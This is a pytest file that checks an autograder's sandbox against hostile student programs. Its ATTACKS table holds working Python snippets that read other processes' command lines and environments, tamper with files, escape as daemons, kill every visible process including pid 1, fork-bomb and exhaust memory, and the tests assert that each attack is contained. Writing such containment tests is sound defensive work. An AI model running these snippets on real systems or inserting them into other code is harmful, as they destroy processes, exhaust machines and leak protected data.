"""Hostile students: programs that attack the grader, graded by the real `rawdeal grade` under the real sandbox.

A class holds a correct program first and last, and between them one program per attack: each
attacks when it starts, then behaves as the correct program would (the flood aside). The grader is
the real command line, in a process of its own (so its command line names the bank, as a course's
would), with two runs at a time. The test then checks the outcome, not only that grading finished:
every attacker still gets exactly what its output earns, nothing outside its run changed, no
process of any run is left, nothing reached the network, and the last student is graded as the
first.
"""

from __future__ import annotations

import json
import os
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from consolekit import make_bank, write_program

PY = sys.executable
MARKER = "rawdeal-hostile-daemon"

ATTACKS = {
    # Read the bank: through every process's command line and environment, then the folders above.
    "read-proc": """
found = []
for pid in os.listdir('/proc'):
    for what in ('cmdline', 'environ'):
        try:
            data = open(f'/proc/{pid}/{what}', 'rb').read()
        except OSError:
            continue
        if b'-Tests' in data or BANK.encode() in data:
            found.append(f'{pid}/{what}')
if found:
    print('FOUND', found)
""",
    "read-parents": """
for start in (os.getcwd(), os.path.dirname(os.path.abspath(__file__)), BANK + '/data'):
    path = start
    while True:
        try:
            names = os.listdir(path)
        except OSError:
            names = []
        if any(n.endswith('-Tests') for n in names) or os.path.basename(BANK) in names:
            print('FOUND', path)
        if path == '/':
            break
        path = os.path.dirname(path)
try:
    print('FOUND', open(BANK_FILE).read()[:20])
except OSError:
    pass
""",
    # Change what is not its own: the bank, the next student's program, memory that outlives the run.
    "write": """
for path in (BANK_FILE, PEER):
    try:
        open(path, 'a').write('HACKED')
    except OSError:
        pass
try:
    open('/dev/shm/' + MARKER, 'w').write('still here')
except OSError:
    pass
""",
    # Outlive the run: leave the process group, start a session, double-fork a daemon.
    "daemon": """
try:
    os.setpgid(0, 0)
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', MARKER])
    os._exit(0)
""",
    # Get a pid below the program's (the old sweep's blind spot), then start a daemon.
    "pid-counter": """
try:
    open('/proc/sys/kernel/ns_last_pid', 'w').write('1')
except OSError:
    pass
for _ in range(30):
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', MARKER])
""",
    # Join the grader's process group; stop or kill it: its parent, pid 1, every process it can see, -1.
    "signal": """
import signal
for group in (GRADER, os.getppid(), 1):  # join the grader's process group (the old sandbox's blind spot)
    try:
        os.setpgid(0, group)
    except OSError:
        pass
targets = [os.getppid(), 1, -1, GRADER] + [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for target in targets:
        try:
            os.kill(target, sig)
        except OSError:
            pass
""",
    "network": """
import socket
try:
    socket.create_connection(('127.0.0.1', PORT), timeout=1).sendall(b'leak')
    print('CONNECTED')
except OSError:
    pass
""",
    "memory": """
try:
    hog = bytearray(4 << 30)
    print('ALLOCATED')
except MemoryError:
    pass
""",
    "fork-bomb": """
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "gigabyte": """
chunk = b'x' * (1 << 20)
for _ in range(1024):
    sys.stdout.buffer.write(chunk)
""",
}


def hostile(attack: str, **values: Any) -> str:
    """The correct console with `attack` run first; the names it uses are given as constants."""
    constants = "".join(f"{name} = {value!r}\n" for name, value in values.items())
    return f"import os, sys\n{constants}{ATTACKS[attack]}\n"


SYSTEM_PY = shutil.which("python3", path="/usr/bin:/bin")


@pytest.fixture(scope="module", params=["this-python", "reachable-system-python"])
def graded(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """The class graded once by `rawdeal grade --course --class` in a process of its own: with this
    environment's Python, and with the system's Python and a class every account can reach outside
    /tmp (as root, only then do a student's runs share one bubblewrap, see `box`)."""
    if request.param == "this-python":
        yield _graded(tmp_path_factory.mktemp("hostile"), PY)
        return
    if SYSTEM_PY is None:
        pytest.skip("no /usr/bin/python3: a submission's box needs the system Python for its runner, so runs "
                    "here each get a bubblewrap of their own (the this-python case); install python3 to test boxes")
    root = Path(tempfile.mkdtemp(prefix="rawdeal-hostile-", dir="/var/tmp"))  # not under /tmp: see `bwrap.box_head`
    try:
        root.chmod(0o755)
        yield _graded(root, SYSTEM_PY)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _graded(root: Path, python: str) -> dict[str, Any]:
    bank = make_bank(root / "bank")
    klass = root / "class"
    for name in ("00-first", "zz-last"):
        write_program(klass / name, "")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    bank_file = bank / "data" / "01-Alpha-Tests" / "1.txt"
    values = {"BANK": str(bank), "BANK_FILE": str(bank_file), "PEER": str(klass / "zz-last" / "main.py"),
              "MARKER": MARKER, "PORT": listener.getsockname()[1], "GRADER": os.getpid()}
    before = {p: p.read_bytes() for p in bank.rglob("*") if p.is_file()}
    peer_before = (klass / "zz-last" / "main.py").read_bytes()
    for attack in ATTACKS:
        main = write_program(klass / attack, "") / "main.py"
        main.write_text(hostile(attack, **values) + main.read_text())
    start = time.monotonic()
    own = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # a child's peak starts from its parent's at fork
    with open(root / "out.txt", "w+") as out, open(root / "err.txt", "w+") as err:
        grader = subprocess.Popen(
            [PY, "-m", "rawdeal", "grade", "--course", str(bank), "--class", str(klass), "--only", "01-Alpha/*",
             "--command", f"'{python}' {{student}}/main.py {{decks}}", "--timeout", "3", "--jobs", "2",
             "--max-output", "20000", "--json", str(root / "grades.json")], stdout=out, stderr=err)
        _, status, usage = os.wait4(grader.pid, 0)  # the grader's own peak memory, not its children's
        grader.returncode = os.waitstatus_to_exitcode(status)
        err.seek(0)
        stderr = err.read()
    seconds = time.monotonic() - start
    try:
        connection: socket.socket | None = listener.accept()[0]
    except BlockingIOError:
        connection = None
    listener.close()
    return {
        "code": grader.returncode, "stderr": stderr, "seconds": seconds, "klass": klass, "bank": bank,
        "before": before, "peer_before": peer_before,
        "grades": {g["student"]: g for g in json.loads((root / "grades.json").read_text())}
        if grader.returncode < 2 else {},
        "connection": connection, "grader_rss": usage.ru_maxrss - own,
    }


def statuses(graded: dict[str, Any], student: str) -> set[str]:
    return {s["status"] for s in graded["grades"][student]["scenarios"]}


def test_grading_finished_and_the_first_and_last_students_are_graded_alike(graded: dict[str, Any]) -> None:
    assert graded["code"] == 1, graded["stderr"]  # 1: the flood fails
    assert statuses(graded, "00-first") == statuses(graded, "zz-last") == {"pass"}
    assert graded["grades"]["zz-last"]["score"] == 4


@pytest.mark.parametrize("attack", [a for a in ATTACKS if a != "gigabyte"])
def test_each_attack_is_contained_and_the_attacker_gets_what_its_output_earns(graded: dict[str, Any], attack: str) -> None:
    scenarios = graded["grades"][attack]["scenarios"]
    # A fork bomb's processes share the CPU with its program, which may then not finish in time.
    allowed = {"pass", "timeout"} if attack == "fork-bomb" else {"pass"}
    assert {s["status"] for s in scenarios} <= allowed, [(s["name"], s["status"], s["reason"]) for s in scenarios]


def test_reading_the_bank_gets_nothing(graded: dict[str, Any]) -> None:
    for attack in ("read-proc", "read-parents"):
        assert all("FOUND" not in s.get("detail", "") for s in graded["grades"][attack]["scenarios"])


def test_writing_to_the_bank_a_peer_or_memory_leaves_no_trace(graded: dict[str, Any]) -> None:
    bank: Path = graded["bank"]
    assert {p: p.read_bytes() for p in bank.rglob("*") if p.is_file()} == graded["before"]
    assert (graded["klass"] / "zz-last" / "main.py").read_bytes() == graded["peer_before"]
    assert not Path("/dev/shm", MARKER).exists()


def test_no_process_of_any_run_is_left(graded: dict[str, Any]) -> None:
    klass = str(graded["klass"]).encode()
    for _ in range(20):  # the kernel ends a run's processes when it ends; give it a moment to finish
        left = [pid for pid in os.listdir("/proc") if pid.isdigit() and _holds(pid, klass)]
        if not left:
            break
        time.sleep(0.1)
    assert left == []


def _holds(pid: str, text: bytes) -> bool:
    try:
        data = Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return False
    return text in data or MARKER.encode() in data


def test_nothing_reached_the_network(graded: dict[str, Any]) -> None:
    assert graded["connection"] is None


def test_a_gigabyte_of_output_is_cut_at_the_cap_without_filling_the_grader_s_memory(graded: dict[str, Any]) -> None:
    assert statuses(graded, "gigabyte") == {"oversized"}
    assert graded["grader_rss"] < 200_000  # KiB beyond this test's own: the grader kept at most the capped output
